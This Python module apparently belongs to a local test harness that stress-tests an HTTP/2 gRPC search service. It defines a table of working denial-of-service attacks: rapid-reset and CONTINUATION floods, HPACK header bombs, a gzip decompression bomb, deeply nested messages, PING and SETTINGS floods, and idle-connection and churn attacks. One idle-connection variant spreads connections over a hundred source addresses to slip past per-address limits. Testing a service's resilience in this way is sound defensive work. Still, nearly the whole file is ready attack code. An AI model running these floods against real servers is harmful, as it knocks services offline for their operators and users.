"""The attacks: each a function of (target) that does its harm, within bounds, and says in a few words what it met.

Hostile connections come from addresses of their own (127.0.66.1 and up), so that limits by address can tell them from
the good client. Nothing leaves this machine.
"""

import contextlib
import select
import socket
import time
import zlib

import h2

SOURCES = [f"127.0.66.{i}" for i in range(1, 101)]


class Target:
    """Where the harm goes: an address, how large it is to be (1: as the issue states it), and from how many sources."""

    def __init__(self, address, scale=1.0, sources=1, first_source=0):
        self.address, self.scale, self.sources = address, scale, SOURCES[first_source : first_source + sources]

    def times(self, count):
        return max(1, int(count * self.scale))

    def connect(self, number=0, **options):
        source = None if isinstance(self.address, str) else self.sources[number % len(self.sources)]
        return h2.connect(self.address, source, **options)


# Reads away what came; has the peer closed the connection, or said GOAWAY? (Python waits even for MSG_DONTWAIT where a
# socket has a timeout.)
def is_closed(plug):
    poller = select.poll()
    poller.register(plug, select.POLLIN)
    try:
        while poller.poll(0):
            more = plug.recv(65536)
            if not more or any(kind == h2.GOAWAY for kind, _, _, _ in h2.Frames().feed(more)):
                return True
    except OSError:
        return True
    return False


@contextlib.contextmanager
def many(target, count, greet=b"", **options):
    """Up to `count` connections that have said `greet`; gives (those that were made, how many were refused)."""
    plugs, refused = [], 0
    try:
        for i in range(count):
            try:
                plug = target.connect(i, timeout=2, **options)
            except OSError:
                refused += 1
                if refused > 100 and not plugs:
                    break
                continue
            try:
                plug.sendall(greet)
                plugs.append(plug)
            except OSError:
                refused += 1
                plug.close()
        yield plugs, refused
    finally:
        for plug in plugs:
            plug.close()


def push(target, chunks, greet=h2.greeting(), seconds=30, number=0, read=True):
    """Sends chunks over one connection until the peer closes it; returns "all N sent" or "cut after N". What comes back
    is read away, unless `read` is false."""
    sent = 0
    deadline = time.monotonic() + seconds
    try:
        with target.connect(number, timeout=5) as plug:
            plug.sendall(greet)
            for chunk in chunks:
                plug.sendall(chunk)
                sent += 1
                if read and is_closed(plug):
                    return f"cut after {sent}"
                if time.monotonic() > deadline:
                    return f"time up after {sent}"
            # Closing with bytes unread would reset the connection before all was taken in.
            plug.shutdown(socket.SHUT_WR)
            plug.settimeout(min(5, seconds))
            with contextlib.suppress(TimeoutError):
                while read and plug.recv(65536):
                    pass
    except OSError as error:
        return f"cut after {sent} ({type(error).__name__})"
    return f"all {sent} sent"


def batched(frames, size):
    batch = []
    for each in frames:
        batch.append(each)
        if len(batch) == size:
            yield b"".join(batch)
            batch = []
    if batch:
        yield b"".join(batch)


def idle_connections(target):
    """From a hundred addresses, so that no limit by address stops it."""
    return idle_one_address(Target(target.address, target.scale, len(SOURCES)))


def idle_one_address(target):
    with many(target, target.times(10000), h2.greeting()) as (plugs, refused):
        time.sleep(3)
        return f"{len(plugs)} made, {refused} refused, {sum(map(is_closed, plugs))} closed by the server"


def silent(greet, seconds=8):
    def attack(target):
        with many(target, target.times(1000), greet) as (plugs, refused):
            time.sleep(seconds * min(1.0, max(0.25, target.scale)))
            return f"{len(plugs)} made, {refused} refused, {sum(map(is_closed, plugs))} closed by the server"

    return attack


def non_reading(target):
    """Asks for the largest pages and for exports, and reads nothing of them."""
    calls = b"".join(h2.search(stream, "*", page_size=100) for stream in range(1, 120, 2))
    exports = b"".join(h2.call(stream, "Export", h2.field(1, "*") + h2.field(7, 1)) for stream in range(121, 128, 2))
    for window in (65535, 2**31 - 1):
        greet = h2.greeting(initial_window_size=window) + h2.window_update(0, 2**31 - 1 - 65535) + calls + exports
        with many(target, target.times(50), greet, receive_buffer=4096) as (plugs, refused):
            time.sleep(3 * min(1.0, max(0.5, target.scale)))
            last = f"{len(plugs)} connections with 64 calls each, {refused} refused"
    return last


def header_block(stream, block):
    """HEADERS with as much of a block as fits, and CONTINUATION frames for the rest, one by one."""
    parts = [block[i : i + h2.MAX_FRAME] for i in range(0, len(block), h2.MAX_FRAME)]
    for i, part in enumerate(parts):
        flags = h2.END_HEADERS if i == len(parts) - 1 else 0
        yield h2.frame(
            h2.HEADERS if i == 0 else h2.CONTINUATION, flags | (h2.END_STREAM if i == 0 else 0), stream, part
        )


def header_bomb_long(target):
    block = h2.call_headers(h2.SERVICE + "Search") + h2.header("x", b"a" * target.times(8 << 20))
    return push(target, header_block(1, block))


def header_bomb_many(target):
    block = h2.call_headers(h2.SERVICE + "Search") + b"".join(
        h2.header(f"x-{i}", "a" * 20) for i in range(target.times(200000))
    )
    return push(target, header_block(1, block))


def header_bomb_table(target):
    """One header of 4,000 bytes in the table, named again and again by one byte."""
    block = h2.call_headers(h2.SERVICE + "Search") + h2.indexed_later("x", "a" * 3900) + b"\xbe" * target.times(100000)
    return push(target, header_block(1, block))


def continuation_flood(target):
    """A header block that never ends, of empty frames."""
    first = h2.frame(h2.HEADERS, 0, 1, h2.call_headers(h2.SERVICE + "Search"))
    return push(target, [first, *batched((h2.frame(h2.CONTINUATION, 0, 1) for _ in range(target.times(200000))), 500)])


def reset_flood(target):
    """Calls that are taken back as soon as they are begun."""
    block = h2.call_headers(h2.SERVICE + "Search")
    frames = (
        h2.frame(h2.HEADERS, h2.END_HEADERS, s, block) + h2.rst_stream(s) for s in range(1, 2 * target.times(50000), 2)
    )
    return push(target, batched(frames, 100)) + " (batches of 100)"


def reset_flood_calls(target):
    """The same with the whole request sent, so that the server begins to work."""
    frames = (h2.search(s, "strike OR talks", 100) + h2.rst_stream(s) for s in range(1, 2 * target.times(50000), 2))
    return push(target, batched(frames, 100)) + " (batches of 100)"


def reset_flood_many(target):
    """The same over many connections, each with fewer than any limit of one connection would notice."""
    block = h2.call_headers(h2.SERVICE + "Search")
    frames = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, s, block) + h2.rst_stream(s) for s in range(1, 200, 2))
    ends = [push(target, [frames], seconds=2, number=i) for i in range(target.times(500))]
    cut = sum(end.startswith("cut") for end in ends)
    return f"{len(ends)} connections with 100 each, {cut} cut"


def reset_flood_again(target):
    """The same over and over: whoever is cut comes back at once."""
    block = h2.call_headers(h2.SERVICE + "Search")
    frames = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, s, block) + h2.rst_stream(s) for s in range(1, 4000, 2))
    connections = cut = 0
    end = time.monotonic() + 5 * target.scale
    while time.monotonic() < end:
        cut += push(target, [frames], seconds=1, number=connections).startswith("cut")
        connections += 1
    return f"{connections} connections with 2000 each, {cut} cut"


def gzip_bomb(target):
    maker = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    bomb = b"".join(maker.compress(zeros) for _ in range(200)) + maker.flush()
    frames = [
        h2.call(s, "Search", bomb, [("grpc-encoding", "gzip")], compressed=True)
        for s in range(1, 2 * target.times(16), 2)
    ]
    greet = h2.greeting() + h2.window_update(0, 2**30)
    return push(target, frames, greet) + f" ({len(bomb)} bytes each, for 200 MiB)"


def oversized_message(target):
    """Five MiB, in as many frames as the peer's window lets through (we do not wait for more of it)."""
    body = h2.message(h2.field(1, b"a" * (5 << 20)))
    frames = []
    for stream in range(1, 2 * target.times(20), 2):
        frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(h2.SERVICE + "Search")))
        frames.append(h2.frame(h2.DATA, 0, stream, body[: h2.MAX_FRAME]))
    return push(target, frames, seconds=10) + f" (first frames of calls of {len(body)} bytes)"


def nested_message(target):
    """Groups in groups, in a field that nobody knows: 150 levels, and 100,000 as far as the window goes."""

    def groups(levels):
        return h2.field(1, "strike") + b"\xa3\x06" * levels + b"\xa4\x06" * levels

    frames = [h2.call(s, "Search", groups(150)) for s in range(1, 2 * target.times(20), 2)]
    frames += [h2.call(1001, "Search", groups(15000))]
    return push(target, frames)


def descriptor_exhaustion(target):
    with many(target, 200, h2.greeting()) as (plugs, refused):
        time.sleep(2)
        return f"{len(plugs)} made, {refused} refused, {sum(map(is_closed, plugs))} closed by the server"


def ping_flood(target):
    pings = (h2.frame(h2.PING, 0, 0, b"12345678") for _ in range(target.times(200000)))
    return push(target, batched(pings, 500)) + " (batches of 500)"


def ping_flood_unread(target):
    """Replies pile up at the server, as we do not read them."""
    pings = (h2.frame(h2.PING, 0, 0, b"12345678") for _ in range(target.times(500000)))
    return push(target, batched(pings, 500), read=False, seconds=8) + " (batches of 500)"


def settings_flood(target):
    changes = (h2.settings(initial_window_size=65535 + i % 2) for i in range(target.times(100000)))
    return push(target, batched(changes, 500), read=False, seconds=8) + " (batches of 500)"


def empty_data_flood(target):
    head = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.SERVICE + "Search"))
    return push(target, [head, *batched((h2.frame(h2.DATA, 0, 1) for _ in range(target.times(200000))), 500)])


def churn(target):
    """New connections as fast as one client can make them."""
    made = refused = 0
    end = time.monotonic() + 4 * target.scale
    while time.monotonic() < end:
        try:
            with target.connect(made, timeout=1) as plug:
                plug.sendall(h2.greeting())
                made += 1
        except OSError:
            refused += 1
    return f"{made} made, {refused} refused"


# In the order of the table; `calm` shows what the good client gets without any.
ATTACKS = dict(
    calm=lambda target: time.sleep(3 * target.scale) or "nothing",
    idle_connections=idle_connections,
    idle_one_address=idle_one_address,
    silent_tcp=silent(b""),
    silent_half_preface=silent(h2.PREFACE[:10]),
    silent_preface=silent(h2.PREFACE),
    silent_half_call=silent(
        h2.greeting() + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.SERVICE + "Search"))
    ),
    non_reading=non_reading,
    header_bomb_long=header_bomb_long,
    header_bomb_many=header_bomb_many,
    header_bomb_table=header_bomb_table,
    continuation_flood=continuation_flood,
    reset_flood=reset_flood,
    reset_flood_calls=reset_flood_calls,
    reset_flood_many=reset_flood_many,
    reset_flood_again=reset_flood_again,
    gzip_bomb=gzip_bomb,
    oversized_message=oversized_message,
    nested_message=nested_message,
    descriptor_exhaustion=descriptor_exhaustion,
    ping_flood=ping_flood,
    ping_flood_unread=ping_flood_unread,
    settings_flood=settings_flood,
    empty_data_flood=empty_data_flood,
    churn=churn,
)
